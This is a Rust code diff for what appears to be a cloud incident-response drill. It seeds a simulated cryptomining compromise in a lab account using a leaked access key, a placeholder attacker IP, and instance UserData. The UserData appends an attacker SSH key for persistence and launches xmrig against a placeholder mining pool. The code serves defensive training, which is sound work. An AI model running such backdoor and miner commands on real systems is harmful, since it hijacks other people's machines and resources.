@@ -26,6 +26,9 @@ echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBackdoorKeyOfTheAttacker attacker@evi
 nohup /tmp/.cache/xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5k --donate-level 1 &
 ";
 
+/// Where the attacker's calls come from (TEST-NET-3, documentation range).
+pub const ATTACKER_IP: &str = "203.0.113.66";
+
 /// What the drill's suspect looks like once seeded.
 #[derive(Debug, Clone)]
 pub struct Suspect {
@@ -34,6 +37,8 @@ pub struct Suspect {
     pub instance: InstanceId,
     pub volume: String,
     pub role_name: String,
+    /// The leaked access key the attacker launched it with.
+    pub access_key: String,
 }
 
 impl Suspect {
@@ -47,14 +52,19 @@ pub async fn cryptomining(
     lab: &Lab,
     account: &AccountId,
     region: &Region,
+    forensics: &AccountId,
     work: &Path,
 ) -> Result<Suspect, SeedError> {
     super::seed::role(lab, account, region, MEMBER_ROLE).await?;
+    super::seed::handoff_key(lab, account, region, forensics).await?;
     let c = lab.clients(account, region);
 
     // The compromised developer and the key the attacker used.
     c.iam.create_user().user_name("dev-ci").send().await.map_err(fail("create user"))?;
-    c.iam.create_access_key().user_name("dev-ci").send().await.map_err(fail("create access key"))?;
+    let key =
+        c.iam.create_access_key().user_name("dev-ci").send().await.map_err(fail("create access key"))?;
+    let key = key.access_key().ok_or_else(|| fail("access key")("missing"))?;
+    let attacker = lab.clients_with_key(key.access_key_id(), key.secret_access_key(), region, ATTACKER_IP);
 
     // The application's network: a VPC with IPv6, a public web subnet, an open web group.
     let vpc = c
@@ -138,11 +148,18 @@ pub async fn cryptomining(
         .map_err(fail("register AMI"))?;
     let ami_id = ami.image_id().ok_or_else(|| fail("ami id")("missing"))?.to_owned();
 
-    // The attacker's launch, with the miner in UserData (the SDK does not base64 it).
+    // The attacker's launch with the leaked key, the miner in UserData (the SDK does not
+    // base64 it), the root volume encrypted under the account's default aws/ebs key.
     let userdata = base64::engine::general_purpose::STANDARD.encode(MINER_USERDATA);
-    let run = c
+    let run = attacker
         .ec2
         .run_instances()
+        .block_device_mappings(
+            aws_sdk_ec2::types::BlockDeviceMapping::builder()
+                .device_name("/dev/sda1")
+                .ebs(aws_sdk_ec2::types::EbsBlockDevice::builder().encrypted(true).volume_size(8).build())
+                .build(),
+        )
         .image_id(&ami_id)
         .instance_type(aws_sdk_ec2::types::InstanceType::C5Xlarge)
         .min_count(1)
@@ -221,6 +238,7 @@ pub async fn cryptomining(
         instance: instance_id,
         volume: volume_id,
         role_name: role_name.into(),
+        access_key: key.access_key_id().to_owned(),
     })
 }
 
